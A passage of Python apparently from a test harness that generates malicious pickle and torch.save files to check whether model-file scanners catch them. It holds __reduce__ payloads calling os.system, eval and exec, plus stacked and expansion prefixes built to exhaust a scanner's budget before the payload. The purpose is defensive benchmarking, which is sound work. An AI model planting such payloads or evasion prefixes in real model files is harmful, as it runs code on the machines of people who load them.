def _stacked_plain_samples(b: Builder) -> None:
    benign = pickle.dumps(["a", "b", "c"])
    b.add("stacked-plain-pickles", "benign-then-payload", "pickle",
          lambda x: benign + inner_system_pickle(x), protocol=2, expect=False)
    b.add("stacked-plain-pickles", "payload-then-benign", "pickle",
          lambda x: inner_system_pickle(x) + benign, protocol=2)
    b.add("stacked-plain-pickles", "two-benign-then-payload", "pickle",
          lambda x: benign + benign + inner_system_pickle(x, 4), protocol=4, expect=False)


def _expansion_samples(b: Builder) -> None:
    """Expansion and budget-eating prefixes (fickling test_expansion_attack_analysis),
    then the payload: a scanner that gives up early misses it; the loader does not."""
    def dup_laughs(a: Asm) -> bytes:
        return b"(" * 9 + a.s("lol") + (b"2" * 9 + b"l") * 9 + b"0"

    def memo_laughs(a: Asm) -> bytes:
        body = b"]q\x00"
        for level in range(1, 30):
            body += b"(" + (b"h" + bytes([level - 1])) * 10 + b"l" + b"q" + bytes([level])
        return body + b"0"

    prefixes: dict[str, Callable[[Asm], bytes]] = {
        "dup-laughs": dup_laughs,
        "memo-laughs": memo_laughs,
        "ten-thousand-marks": lambda a: b"(" * 10_000,
        "200k-noise-opcodes": lambda a: b"N0" * 200_000,
        "100k-memo-entries": lambda a: b"N" + b"".join(b"r" + struct.pack("<I", i)
                                                       for i in range(100_000)) + b"0",
    }
    for label, prefix in prefixes.items():
        for container in ("pickle", "zip"):
            def make(x: Ctx, prefix=prefix, container=container) -> bytes:
                a = Asm(2)
                body = prefix(a) + a.call(a.g("posix", "system"), a.s(x.cmd))
                return contain(container, body, a)
            b.add("expansion-then-payload", f"{label}-{container}", container, make,
                  protocol=2)


def _real_pickler_samples(b: Builder) -> None:
    """What the real pickler writes for an object whose __reduce__ names a dangerous
    callable, at every protocol (picklescan malicious1/2_v0/v3/v4, modelscan)."""
    funcs: dict[str, Callable[[Ctx], _Reduce]] = {
        "eval": lambda x: _Reduce(eval, x.code),
        "exec": lambda x: _Reduce(exec, x.code),
        "os.system": lambda x: _Reduce(os.system, x.cmd),
        "subprocess.getoutput": lambda x: _Reduce(subprocess.getoutput, x.cmd),
    }
    for label, obj in funcs.items():
        for p in range(6):
            b.add("real-pickler-reduce", f"{label}-p{p}", "pickle",
                  lambda x, obj=obj, p=p: pickle.dumps(obj(x), protocol=p), protocol=p)
    for label in ("eval", "os.system"):
        for legacy in (False, True):
            def saved(x: Ctx, label=label, legacy=legacy) -> bytes:
                buf = io.BytesIO()
                torch.save({"model": H.small_state(), "extra": funcs[label](x)}, buf,
                           _use_new_zipfile_serialization=not legacy)
                return buf.getvalue()
            b.add("real-pickler-reduce", f"torch.save-{label}-{'legacy' if legacy else 'zip'}",
                  "legacy" if legacy else "zip", saved, weights=True, protocol=2)


def samples(root: Path) -> list[Sample]:
    """Every sample of the corpus, its files to be written under ``root``."""
    b = Builder(Path(root))
    _recipe_samples(b)
    _first_opcode_samples(b)
    _broken_tail_samples(b)
    _frame_samples(b)
    _ext_samples(b)
    _zip_trick_samples(b)
    _legacy_stack_samples(b)
    _stacked_plain_samples(b)
    _expansion_samples(b)
    _real_pickler_samples(b)
    names = [s.name for s in b.out]
    assert len(names) == len(set(names)), "duplicate sample names"
    return b.out


def controls(root: Path) -> list[Sample]:
    """Benign files through the same harness: the ground truth must see nothing run."""
    b = Builder(Path(root))
    state = H.small_state()
    b.add("control", "torch.save-zip", "zip", lambda x: zip_bytes(list(_zip_records(True))),
          expect=False)
    b.add("control", "torch.save-legacy", "legacy", lambda x: _legacy_bytes(True),
          expect=False)
    for p in (0, 2, 4, 5):
        b.add("control", f"pickle-list-p{p}", "pickle",
              lambda x, p=p: pickle.dumps({"a": [1, 2.5, "x"], "b": (None, True)}, protocol=p),
              weights=False, protocol=p, expect=False)
    b.add("control", "pickle-of-state-dict", "pickle",
          lambda x: pickle.dumps(dict(state), protocol=4), weights=False, expect=False)
    return b.out


def families(sample_list: list[Sample]) -> dict[str, list[Sample]]:
    out: dict[str, list[Sample]] = {}
    for s in sample_list:
        out.setdefault(s.family, []).append(s)
    return out


def iter_ops(data: bytes) -> Iterator[str]:  # pragma: no cover - a debugging aid
    for op, arg, pos in pickletools.genops(io.BytesIO(data)):
        yield f"{pos:5d} {op.name} {arg!r}"[:120]


__all__ = ["Asm", "Ctx", "Sample", "controls", "families", "frame", "samples",
           "write_corpus"]
